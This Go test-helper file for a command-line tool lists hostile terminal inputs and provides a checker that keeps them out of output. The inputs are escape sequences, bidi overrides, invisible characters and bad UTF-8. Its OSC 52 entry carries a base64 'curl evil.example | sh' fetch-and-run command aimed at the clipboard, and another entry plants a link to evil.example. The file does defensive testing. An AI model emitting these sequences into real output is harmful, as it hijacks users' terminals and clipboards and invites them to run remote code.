package clitest

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/ptc-go/ptc/internal/textutil"
)

// HostileTexts are texts that would command a terminal, or make text
// read otherwise than it is.
func HostileTexts() []string {
	return []string{
		"\x1b[2J\x1b[H",    // clear the screen
		"\x1b]0;pwned\x07", // OSC: the window's title
		"\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\", // OSC 8: a link
		"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",         // OSC 52: the clipboard
		"\u009b31m\u009d0;t\u009c",                               // C1: CSI, OSC, ST
		"nul\x00bel\x07bs\b\b",                                   // C0
		"safe\rEVIL",                                             // CR: overwrite the line
		"del\x7f",                                                // DEL
		"\u202etxt.exe",                                          // right-to-left override
		"\u2066isolate\u2069\u202a\u202c\u200e\u200f\u061c",      // isolates, embeddings, marks
		"zero\u200bwidth\u200d\u2060\ufeff\u00ad",                // invisible
		"line\u2028para\u2029",                                   // separators
		"tag\U000E0041\U000E0042\U000E007F",                      // invisible tags
		"\xff\xfe bytes \xc0",                                    // not UTF-8
	}
}

// HostileText is all of them in one.
func HostileText() string { return strings.Join(HostileTexts(), " | ") }

// CheckTermSafe fails when text holds what must not reach a terminal: it
// is independent of termUnsafe, whose set it checks.
func CheckTermSafe(t *testing.T, what, text string) {
	t.Helper()
	for i := 0; i < len(text); {
		r, n := utf8.DecodeRuneInString(text[i:])
		bad := r == utf8.RuneError && n == 1 ||
			r < 0x20 && r != '\n' && r != '\t' || r == 0x7f || r >= 0x80 && r < 0xa0 ||
			r >= 0x200b && r <= 0x200f || r >= 0x202a && r <= 0x202e || r >= 0x2060 && r <= 0x206f ||
			r == 0x2028 || r == 0x2029 || r == 0xfeff || r == 0xad || r == 0x61c || r >= 0xe0000 && r <= 0xe007f
		if bad {
			t.Errorf("%s holds %U at byte %d: %q", what, r, i, textutil.Clip(text[max(0, i-40):], 80))
			return
		}
		i += n
	}
}

// WriteFile writes content to name in a fresh temporary directory and
// returns its path.
func WriteFile(t *testing.T, dir, name, content string) string {
	t.Helper()
	path := filepath.Join(dir, name)
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}
